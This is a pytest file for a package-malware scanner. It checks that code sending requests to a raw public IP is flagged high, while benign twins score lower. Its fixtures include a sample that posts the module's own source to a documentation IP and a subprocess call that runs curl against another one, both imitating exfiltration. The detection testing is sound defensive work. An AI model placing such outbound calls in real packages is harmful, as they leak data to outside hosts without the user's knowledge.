"""A URL on a raw public IP address in a file that sends requests or starts processes is high.

Real malware (issue 10) posts captured data to `http://<public IP>:<port>/…`, or hands such a
URL to `curl`. Documentation addresses (RFC 5737) stand in for the servers; each positive has
honest twins: the same URL in a file that never reaches out, and clients of the private,
loopback and link-local addresses local services and cloud SDKs use.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.support import archives as A
from watcher.models import Severity
from watcher.pipeline import scan_local

POSTS_TO_IP = """import json, urllib.request

def register(node):
    body = json.dumps({"node": node, "src": open(__file__).read()}).encode()
    req = urllib.request.Request("http://203.0.113.7:3000/nodes/register", data=body)
    return urllib.request.urlopen(req).read()
"""
CURL_TO_IP = """import subprocess
subprocess.run(["curl", "-fsSL", "http://198.51.100.23:8585/ping?who=pkg"])
"""
#: Honest twins.
TABLE_ONLY = """#: Documented fallback mirrors; the installer's own client reads them.
MIRRORS = ["http://203.0.113.7/mirror", "https://mirror.example.invalid/"]
"""
LAN_DEVICE = """import requests

def status(host="http://192.168.1.10"):
    return requests.get(f"{host}/api/status", timeout=5).json()

METADATA = "http://169.254.169.254/latest/meta-data/"

def region():
    return requests.get(METADATA + "placement/region", timeout=1).text
"""


def _ip_findings(tmp_path: Path, module: str) -> list[tuple[Severity, int | None]]:
    files = {
        "PKG-INFO": "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n",
        "pkg.egg-info/top_level.txt": "pkg\n",
        "pkg/__init__.py": "from pkg import client\n",
        "pkg/client.py": module,
    }
    artifact = tmp_path / "pkg-1.0.tar.gz"
    artifact.write_bytes(A.sdist("pkg", "1.0", files))
    return [
        (f.severity, f.line)
        for f in scan_local(artifact).findings
        if f.rule == "code.new-host" and "IP address" in f.message
    ]


@pytest.mark.parametrize(
    ("module", "line"), [(POSTS_TO_IP, 5), (CURL_TO_IP, 2)], ids=["urlopen", "curl"]
)
def test_a_raw_public_ip_destination_in_use_is_high(tmp_path: Path, module: str, line: int) -> None:
    assert (Severity.HIGH, line) in _ip_findings(tmp_path, module)


def test_a_raw_ip_in_a_file_that_never_reaches_out_stays_medium(tmp_path: Path) -> None:
    found = _ip_findings(tmp_path, TABLE_ONLY)
    assert found and max(severity for severity, _ in found) == Severity.MEDIUM


def test_private_and_link_local_addresses_are_not_raw_public_destinations(
    tmp_path: Path,
) -> None:
    assert all(severity < Severity.HIGH for severity, _ in _ip_findings(tmp_path, LAN_DEVICE))
